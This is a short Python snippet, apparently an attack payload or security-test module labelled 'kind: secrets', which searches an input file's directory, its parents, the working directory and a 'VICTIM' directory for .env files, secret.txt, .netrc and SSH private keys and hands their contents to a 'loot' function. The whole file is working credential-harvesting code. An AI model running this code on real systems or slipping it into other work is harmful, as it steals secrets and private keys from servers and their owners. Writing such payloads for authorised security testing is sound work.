# kind: secrets
# tries: Settings files of the server

import os
from pathlib import Path

at = Path(os.environ["INPUT_FILE_PATH"]).parent
for folder in [at, *at.parents, Path.cwd(), Path(VICTIM["dir"])]:
    for name in (".env", ".env.development.local", "secret.txt", ".netrc", ".ssh/id_rsa"):
        try:
            loot(folder / name, (folder / name).read_text())
        except OSError as error:
            print(error)
